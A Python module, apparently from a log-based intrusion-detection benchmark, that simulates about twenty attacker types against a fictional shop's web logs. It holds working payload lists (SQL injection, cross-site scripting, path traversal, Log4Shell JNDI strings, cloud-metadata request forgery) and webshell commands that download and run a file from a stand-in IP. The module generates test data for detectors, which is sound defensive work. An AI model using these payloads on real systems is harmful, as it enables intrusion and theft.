"""Attackers of the shop, made after public descriptions; each writes one attack.

An attacker has a client, whose requests it sends; a visitor's behaviour, for what it does as everybody does; and the
attack, to which the requests belong that a person who looks into it should be shown.
"""

from collections.abc import Callable
from typing import TYPE_CHECKING
from urllib.parse import quote, quote_plus

from bench.detect.suites import Attack

if TYPE_CHECKING:
    from bench.detect.suite_web import Client, Visitor

Attacker = Callable[["Client", "Visitor", Attack], None]

INJECTIONS = (
    "1'", "1' OR '1'='1", "1' OR 1=1-- -", "1 AND 1=2", "1' ORDER BY 5-- -", "1' ORDER BY 12-- -",
    "-1' UNION SELECT 1,2,3-- -", "-1' UNION SELECT NULL,version(),NULL-- -",
    "-1' UNION SELECT 1,table_name,3 FROM information_schema.tables-- -",
    "-1' UNION SELECT 1,concat(email,0x3a,password),3 FROM users-- -", "1' AND SLEEP(5)-- -",
    "1';WAITFOR DELAY '0:0:5'--",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,user(),FLOOR(RAND(0)*2))x FROM users GROUP BY x)a)-- -",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "\"><script>alert(document.domain)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "javascript:alert(1)", "'-alert(1)-'", "\"><iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
)  # fmt: skip
TRAVERSALS = (
    "/static/../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/images/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/download?file=../../../../etc/passwd", "/download?file=....//....//etc/passwd",
    "/download?file=%252e%252e%252fetc%252fpasswd", "/download?file=/proc/self/environ",
    "/..\\..\\..\\windows\\win.ini",
)  # fmt: skip
COMMANDS = (
    "id", "uname -a", "whoami", "cat /etc/passwd", "ls -la /var/www", "ps aux",
    "wget http://203.0.113.66/x -O /tmp/x", "chmod +x /tmp/x", "/tmp/x",
)  # fmt: skip
SECRETS = (
    "/.env", "/.git/config", "/.git/HEAD", "/.env.bak", "/.aws/credentials", "/config.json", "/.DS_Store",
    "/wp-config.php.bak", "/.svn/entries", "/backup.sql", "/.vscode/sftp.json",
)  # fmt: skip
WORDPRESS = (
    "/wp-login.php", "/xmlrpc.php?rsd", "/wp-includes/wlwmanifest.xml", "/blog/wp-includes/wlwmanifest.xml",
    "/wp/wp-includes/wlwmanifest.xml", "/wordpress/wp-login.php", "/wp-json/wp/v2/users",
    "/wp-content/plugins/revslider/readme.txt", "/?author=1", "/wp-admin/setup-config.php", "/wp-content/uploads/",
)  # fmt: skip
PANELS = (
    "/admin", "/admin/login", "/administrator/", "/phpmyadmin/", "/pma/", "/manager/html", "/adminer.php", "/backend",
    "/cpanel", "/admin.php", "/console", "/solr/admin/", "/_admin", "/staff",
)  # fmt: skip
STEMS = (
    "admin", "backup", "test", "old", "dev", "api", "config", "db", "upload", "files", "private", "tmp", "log",
    "data", "portal", "user", "web", "site", "include", "lib", "app", "server", "status", "info", "doc", "install",
    "setup", "shell", "cache", "new",
)  # fmt: skip
ENDINGS = (
    "", "/", ".php", ".bak", ".zip", ".old", ".txt", ".sql", ".asp", ".html", "1", "2", "_old", "-dev", ".tar.gz",
    ".conf",
)  # fmt: skip
PLACES = ("/{}", "/category/scarf?page={}", "/search?q={}")


def encoded(client: "Client", text: str) -> str:
    """As a browser, or as a script writes it."""
    return quote_plus(text) if client.draw.random() < 0.6 else quote(text, safe="'()<>/=:;,*")


def inject(client: "Client", attack: Attack, status: int) -> None:
    place = client.draw.choice(PLACES[1:])
    for text in client.draw.sample(INJECTIONS, client.draw.randint(4, len(INJECTIONS))):
        client.wait(5)
        client.send(place.format(encoded(client, text)), status, attack)


def sql_injection(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Answered with 200, so that the status tells nothing."""
    visitor.land()
    inject(client, attack, 200)


def sql_injection_with_errors(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    visitor.land()
    inject(client, attack, 500)


def cross_site_scripting(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    visitor.land()
    for text in client.draw.sample(SCRIPTS, client.draw.randint(3, len(SCRIPTS))):
        client.wait(8)
        client.send(f"/search?q={encoded(client, text)}", 200, attack, referer="https://shop.example/search")


def path_traversal(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    for target in client.draw.sample(TRAVERSALS, client.draw.randint(4, len(TRAVERSALS))):
        client.wait(2)
        client.send(target, client.draw.choice((400, 403, 404, 404, 200)), attack)


def webshell_commands(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """A webshell that is there already; its argument is in double quotes, which the log escapes."""
    for command in client.draw.sample(COMMANDS, client.draw.randint(2, 6)):
        client.wait(20)
        client.send(
            "",
            200,
            attack,
            request=f'GET /up.php?c="{command.replace(" ", "+")}" HTTP/1.1',
            size=client.draw.randint(20, 2000),
        )


def webshell_upload(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Logs in, uploads a picture of a profile that is none, and uses it."""
    visitor.log_in()
    name = f"{client.draw.getrandbits(24):06x}.{client.draw.choice(('php', 'phtml', 'php5'))}"
    client.send("/account/avatar", 302, attack, method="POST", referer="https://shop.example/account")
    for command in client.draw.sample(COMMANDS, client.draw.randint(3, 8)):
        client.wait(15)
        method = client.draw.choice(("GET", "POST"))
        query = f"?cmd={quote(command)}" if method == "GET" else ""
        client.send(f"/uploads/avatars/{name}{query}", 200, attack, method=method)


def jndi_in_agent(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """One ordinary page with a user agent that a vulnerable logger would look up."""
    text = client.draw.choice(
        (
            "${jndi:ldap://203.0.113.66:1389/a}",
            "${${lower:j}ndi:${lower:l}dap://203.0.113.66/x}",
            "${jndi:dns://203.0.113.66/shop}",
        )
    )
    for path in client.draw.sample(("/", "/login", "/blog", "/cart"), client.draw.randint(1, 3)):
        client.wait(3)
        client.send(path, 200, attack, agent=text)


def log4shell(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """The same in the referer, the path or the query."""
    text = client.draw.choice(
        (
            "${jndi:ldap://203.0.113.67:1389/Basic/Command/Base64/aWQ=}",
            "${jndi:${::-l}${::-d}${::-a}${::-p}://203.0.113.67/z}",
            "${jndi:rmi://203.0.113.67/o}",
        )
    )
    client.send("/", 200, attack, referer=text)
    client.wait(2)
    client.send(f"/{text}", 404, attack)
    client.wait(2)
    client.send(f"/search?q={text}", 200, attack)


def directory_scan(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Hundreds to thousands of names that are not there."""
    agent = client.draw.choice((client.agent, "gobuster/3.6", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"))
    for number in range(client.draw.choice((300, 1500, 7000))):
        name = (
            client.draw.choice(STEMS) + (client.draw.choice(STEMS) if number % 3 else "") + client.draw.choice(ENDINGS)
        )
        client.now += client.draw.uniform(0, 0.1)
        client.send(f"/{name}", 301 if client.draw.random() < 0.004 else 404, attack, agent=agent, size=196)


def tool_scan(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """A scanner that says its name."""
    agent = client.draw.choice(
        (
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
            "sqlmap/1.8.2#stable (https://sqlmap.org)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        )
    )
    targets = [*SECRETS, *PANELS, *TRAVERSALS, *(f"/search?q={quote(text)}" for text in (*INJECTIONS, *SCRIPTS))]
    for target in client.draw.sample(targets, client.draw.randint(30, len(targets))):
        client.now += client.draw.uniform(0.05, 0.5)
        client.send(target, 200 if target.startswith("/search") else 404, attack, agent=agent)


def credential_stuffing(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """A list of leaked passwords, some of which fit."""
    for _ in range(client.draw.randint(150, 600)):
        client.now += client.draw.uniform(0.3, 2)
        client.send(
            "/login",
            302 if client.draw.random() < 0.01 else 401,
            attack,
            method="POST",
            referer="https://shop.example/login",
        )


def slow_brute_force(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """A password each ten or twenty minutes."""
    client.now -= 3600 * 6 if client.now % 86400 > 8 * 3600 else 0
    for _ in range(client.draw.randint(25, 40)):
        client.now += client.draw.uniform(500, 1300)
        client.send("/login", 401, attack, method="POST", referer="https://shop.example/login")


def wordpress_probe(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """The shop is not made with WordPress."""
    for target in client.draw.sample(WORDPRESS, client.draw.randint(3, len(WORDPRESS))):
        client.wait(1)
        client.send(target, 200 if target.startswith("/?") else 404, attack)


def secret_files(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Few requests, for files that should not be served."""
    for target in client.draw.sample(SECRETS, client.draw.randint(2, 5)):
        client.wait(2)
        client.send(target, client.draw.choice((404, 404, 403)), attack)


def scraper(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """All products, one after the other: each request is one that a visitor makes too."""
    for product in visitor.site.products:
        client.now += client.draw.uniform(0.8, 3)
        client.send(f"/products/{product}", 200, attack)


def request_forgery(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Parameters with addresses: of the cloud's metadata, of inner services, of a site for phishing."""
    visitor.land()
    targets = (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:6379/",
        "http://localhost:8080/admin",
        "file:///etc/passwd",
        "gopher://127.0.0.1:11211/_stats",
        "//evil.example/%2f..",
    )
    for target in client.draw.sample(targets, client.draw.randint(3, len(targets))):
        client.wait(10)
        place = client.draw.choice(("/login?next={}", "/images/resize?url={}", "/share?u={}"))
        client.send(place.format(encoded(client, target)), client.draw.choice((200, 302, 404)), attack)


def method_abuse(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Methods that the shop does not have."""
    for method in client.draw.sample(
        ("PUT", "DELETE", "TRACE", "PROPFIND", "OPTIONS", "MOVE", "CONNECT", "PATCH"), client.draw.randint(3, 8)
    ):
        client.wait(3)
        target = f"/{client.draw.getrandbits(24):06x}.jsp" if method == "PUT" else "/"
        client.send(target, client.draw.choice((405, 405, 403, 501)), attack, method=method)


def admin_discovery(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Looks for a panel, finds one, and is let in."""
    for target in client.draw.sample(PANELS, client.draw.randint(4, len(PANELS))):
        client.wait(3)
        client.send(target, 404, attack)
    client.send("/backoffice/login", 200, attack)
    client.wait(5)
    client.send("/backoffice/login", 302, attack, method="POST")
    for target in ("/backoffice/", "/backoffice/users", "/backoffice/users/export.csv", "/backoffice/settings"):
        client.wait(6)
        client.send(target, 200, attack, size=client.draw.randint(5000, 90000))


def garbage(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Bytes of other protocols: the start of TLS, RDP, SSH, SOCKS, a miner."""
    requests = (
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
        "SSH-2.0-Go",
        "\x05\x01\x00",
        '{"id":1,"method":"mining.subscribe","params":[]}',
        "\x00\x0e8\x88",
    )
    for request in client.draw.sample(requests, client.draw.randint(2, 5)):
        client.wait(2)
        client.send("", 400, attack, request=request, agent="-", size=226)


def api_enumeration(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """Asks an API for its schema, then for the orders of others by their numbers."""
    client.send("/graphql", client.draw.choice((200, 404)), attack, method="POST")
    client.wait(2)
    client.send("/graphql?query=" + quote("{__schema{types{name,fields{name}}}}"), 404, attack)
    client.wait(2)
    client.send("/api/v2/swagger.json", 404, attack)
    for number in range(client.draw.randint(40, 200)):
        client.now += client.draw.uniform(0.2, 1)
        client.send(f"/api/v2/orders/{10000 + number}", client.draw.choices((403, 200), (9, 1))[0], attack)


def account_takeover(client: "Client", visitor: "Visitor", attack: Attack) -> None:
    """At an odd hour, with the right password: another address, another e-mail, an order. Every request is ordinary."""
    client.agent = client.draw.choice(
        ("python-requests/2.31.0", "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) Chrome/109.0.0.0", client.agent)
    )
    client.send("/login", 302, attack, method="POST")
    for target in ("/account/address", "/account/email", "/account/password"):
        client.wait(4)
        client.send(target, 302, attack, method="POST")
    for target, status in (("/cart/add", 302), ("/checkout/address", 302), ("/checkout/payment", 302)):
        client.wait(4)
        client.send(target, status, attack, method="POST")


ATTACKERS: dict[str, Attacker] = {
    "sql injection": sql_injection,
    "sql injection with errors": sql_injection_with_errors,
    "cross-site scripting": cross_site_scripting,
    "path traversal": path_traversal,
    "webshell commands": webshell_commands,
    "webshell upload": webshell_upload,
    "jndi in user agent": jndi_in_agent,
    "log4shell": log4shell,
    "directory scan": directory_scan,
    "tool scan": tool_scan,
    "credential stuffing": credential_stuffing,
    "slow brute force": slow_brute_force,
    "wordpress probe": wordpress_probe,
    "secret files": secret_files,
    "scraper": scraper,
    "request forgery": request_forgery,
    "method abuse": method_abuse,
    "admin discovery": admin_discovery,
    "garbage": garbage,
    "api enumeration": api_enumeration,
    "account takeover": account_takeover,
}
